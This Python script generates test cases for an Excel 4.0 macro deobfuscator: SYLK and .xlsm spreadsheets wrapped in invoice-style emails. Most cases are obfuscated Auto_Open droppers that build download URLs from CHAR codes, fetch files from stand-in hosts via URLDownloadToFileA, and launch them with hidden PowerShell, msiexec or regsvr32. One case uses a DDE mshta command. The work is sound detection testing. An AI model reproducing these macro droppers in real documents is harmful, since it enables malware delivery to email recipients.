#!/usr/bin/env python3
"""make_xlm.py - write the functional cases of the Excel 4.0 macro
evaluator (src/deob/xlm.c): generated SYLK files and a generated .xlsm
whose macro sheets build their download URL and command line with CHAR,
MID, & and FORMULA, each attached to a small mail, byte for byte
reproducibly.

usage: make_xlm.py [OUTDIR]     (default: tests/functional/cases)

Writes OUTDIR/xlm_*.eml; the expectations (xlm_*.expect.json) are written
by hand next to them.  The files are made here from their formats (SYLK:
records "C;Y;X;E", "NN;NAuto_Open;ER1C1", "O;E"; .xlsm: a ZIP of
SpreadsheetML parts with a macro sheet part and the _xlnm.Auto_Open
defined name), never copied from samples.
"""
import base64
import os
import sys
import zipfile

CRLF = "\r\n"


def mail(name, filename, data, subject, ctype="application/octet-stream"):
    """A small RFC 5322 message with data attached as base64."""
    b = base64.b64encode(data).decode("ascii")
    lines = [b[i:i + 76] for i in range(0, len(b), 76)]
    head = [
        "From: Billing <billing@partner.example>",
        "To: tanaka@example.jp",
        "Subject: " + subject,
        "Date: Tue, 08 Dec 2026 09:30:00 +0900",
        "Message-ID: <%s@partner.example>" % name,
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="=_xlm"',
        "",
        "--=_xlm",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "Please find the statement attached.",
        "",
        "--=_xlm",
        'Content-Type: %s; name="%s"' % (ctype, filename),
        'Content-Disposition: attachment; filename="%s"' % filename,
        "Content-Transfer-Encoding: base64",
        "",
    ]
    return (CRLF.join(head + lines + ["--=_xlm--", ""])).encode("ascii")


def sylk(records):
    """A SYLK file: records joined by CR LF, ';' in a field doubled."""
    return (CRLF.join(records) + CRLF).encode("latin-1")


def sylk_cell(row, col, formula):
    return "C;Y%d;X%d;K0;E%s" % (row, col, formula.replace(";", ";;"))


# A dropper in SYLK: Auto_Open at R1C1; the URL's host and the program
# are never written whole (CHAR codes, MID of a padded string, pieces).
SYLK_DROPPER = sylk([
    "ID;P",
    "O;E",
    "NN;NAuto_Open;ER1C1",
    sylk_cell(1, 1, 'FORMULA(CHAR(104)&CHAR(116)&"tp://"&MID("qqfilesqq",3,5)&CHAR(46)'
                    '&"dropper"&".example/a.exe",R10C1)'),
    sylk_cell(2, 1, 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,R10C1,'
                    '"C:\\Users\\Public\\a.exe",0,0)'),
    sylk_cell(3, 1, 'FORMULA("=EXEC(CHAR(112)&""ower""&""shell -w hidden -c '
                    'Start-Process C:\\Users\\Public\\a.exe"")",R5C1)'),
    sylk_cell(4, 1, "GOTO(R5C1)"),
    sylk_cell(6, 1, "HALT()"),
    "E",
])

# A SYLK macro whose formulas are written into cells by FORMULA and then
# reached after a RUN; the URL is completed in its cell by SET.VALUE, the
# program's name built from CHAR codes; the end of column C returns.
SYLK_RUN = sylk([
    "ID;PWXL;N;E",
    "P;PGeneral",
    "O;L;D;V0;K47;G100 0.001;E",
    "NN;NAuto_open;ER1C1;KOpen;F",
    "C;Y1;X1;K0;ERUN(R1C3)",
    "C;Y2;X1;K0;EHALT()",
    'C;Y1;X3;K0;ESET.VALUE(R1C5,R1C5&"pkg"&CHAR(46)&"installer-cdn.example/s.msi")',
    'C;Y2;X3;K0;EFORMULA("=EXEC(CHAR(99)&CHAR(109)&CHAR(100)&"" /c msiexec /q /i ""&R1C5)",R4C3)',
    "C;Y3;X3;K0;EGOTO(R4C3)",
    'C;Y1;X5;K"http://"',
    "E",
])

# A plain SYLK spreadsheet: values and a SUM, no macro.
SYLK_CLEAN = sylk([
    "ID;PWXL;N;E",
    "P;PGeneral",
    'C;Y1;X1;K"Item"',
    'C;Y1;X2;K"Amount"',
    'C;Y2;X1;K"Paper"',
    "C;Y2;X2;K1200",
    'C;Y3;X1;K"Toner"',
    "C;Y3;X2;K4800",
    'C;Y4;X1;K"Total"',
    "C;Y4;X2;K6000;ESUM(R2C2:R3C2)",
    "E",
])

# A SYLK with a DDE formula (no macro sheet).
SYLK_DDE = sylk([
    "ID;PWXL;N;E",
    "C;Y1;X1;K0;Ecmd|' /C mshta http://dde.example/x.hta'!A0",
    "E",
])


def xlsm(macro_cells, auto_open, hidden=True):
    """A minimal .xlsm: one worksheet and one macro sheet ("Macro1")."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    ctypes = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
        '</Types>')
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="%s/officeDocument" Target="xl/workbook.xml"/>'
        '</Relationships>' % rns)
    wbrels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" '
        'Target="macrosheets/sheet1.xml"/>'
        '</Relationships>' % rns)
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="%s" xmlns:r="%s"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
        '<sheet name="Macro1" sheetId="2" %sr:id="rId2"/>'
        '</sheets><definedNames>'
        '<definedName name="_xlnm.Auto_Open" hidden="1">%s</definedName>'
        '</definedNames></workbook>' % (ns, rns, 'state="hidden" ' if hidden else "", auto_open))
    sheet1 = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<worksheet xmlns="%s"><sheetData><row r="1"><c r="A1" t="inlineStr">'
              '<is><t>Statement</t></is></c></row></sheetData></worksheet>' % ns)
    rows = {}
    for ref, formula in macro_cells:
        row = int("".join(ch for ch in ref if ch.isdigit()))
        rows.setdefault(row, []).append((ref, formula))
    cells = ""
    for row in sorted(rows):
        cells += '<row r="%d">' % row
        for ref, formula in rows[row]:
            esc = formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            esc = esc.replace('"', "&quot;")
            cells += '<c r="%s"><f>%s</f></c>' % (ref, esc)
        cells += "</row>"
    macro = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<xm:macrosheet xmlns="%s" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
             '<sheetData>%s</sheetData></xm:macrosheet>' % (ns, cells))
    out = __import__("io").BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in (("[Content_Types].xml", ctypes), ("_rels/.rels", rels),
                           ("xl/workbook.xml", workbook), ("xl/_rels/workbook.xml.rels", wbrels),
                           ("xl/worksheets/sheet1.xml", sheet1),
                           ("xl/macrosheets/sheet1.xml", macro)):
            info = zipfile.ZipInfo(name, date_time=(2026, 12, 8, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, text)
    return out.getvalue()


# .xlsm: Auto_Open at Macro1!$B$2; the URL is written into D1 by FORMULA
# from CHAR codes and pieces, read by a REGISTERed URLDownloadToFileA, and
# the program run is built with SUBSTITUTE.
XLSM_DROPPER = xlsm([
    ("B2", 'FORMULA(CHAR(104)&"ttp"&CHAR(115)&"://"&"update"&CHAR(45)&"mirror"'
           '&".example/inv"&CHAR(46)&"dll",D1)'),
    ("B3", 'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","fetch",,1,9)'),
    ("B4", 'fetch(0,D1,"C:\\ProgramData\\inv.dll",0,0)'),
    ("B5", 'FORMULA("=EXEC(SUBSTITUTE(""reQgsvQr32"",""Q"","""")&"" /s C:\\ProgramData\\inv.dll"")",B7)'),
    ("B6", "GOTO(B7)"),
    ("B8", "HALT()"),
], "Macro1!$B$2")


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(
        os.path.dirname(os.path.abspath(__file__)), "..", "functional", "cases")
    cases = [
        ("xlm_sylk_dropper", "statement.slk", SYLK_DROPPER, "Statement (SYLK)"),
        ("xlm_sylk_run_formula", "report.slk", SYLK_RUN, "Report"),
        ("xlm_sylk_clean", "amounts.slk", SYLK_CLEAN, "Amounts"),
        ("xlm_sylk_dde", "data.slk", SYLK_DDE, "Data"),
        ("xlm_xlsm_dropper", "invoice.xlsm", XLSM_DROPPER, "Invoice"),
    ]
    for name, fname, data, subj in cases:
        with open(os.path.join(out, name + ".eml"), "wb") as f:
            f.write(mail(name, fname, data, subj))


if __name__ == "__main__":
    main()
